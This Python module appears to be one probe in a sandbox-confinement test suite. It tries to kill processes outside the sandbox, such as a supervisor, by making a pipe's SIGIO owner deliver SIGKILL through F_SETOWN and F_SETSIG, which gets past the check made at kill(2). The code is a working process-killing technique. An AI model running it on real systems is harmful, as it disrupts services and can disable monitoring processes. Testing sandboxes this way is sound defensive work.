"""Have the kernel signal a process outside, as the owner of a descriptor.

gain: a dead supervisor, past a check that is made at kill(2) alone
attack: T1489
stopped by: pid namespace, Landlock
unconfined: host
seen from outside: yes
also refused by: ESRCH, EINVAL
"""

import fcntl
import os
import signal
import time

from attacker import Refused, each, first


def attempt(world):
    def send(pid):
        read, write = os.pipe()
        fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETOWN, pid)
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
        os.write(write, b"x")
        time.sleep(0.05)
        try:
            alive = open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[0] not in "ZX"
        except FileNotFoundError:
            alive = pid not in world["seen"]
        if alive:
            raise Refused(f"process {pid} lives")
        return f"killed process {pid} by SIGIO's owner"

    return first(*each(world["pids"], send))
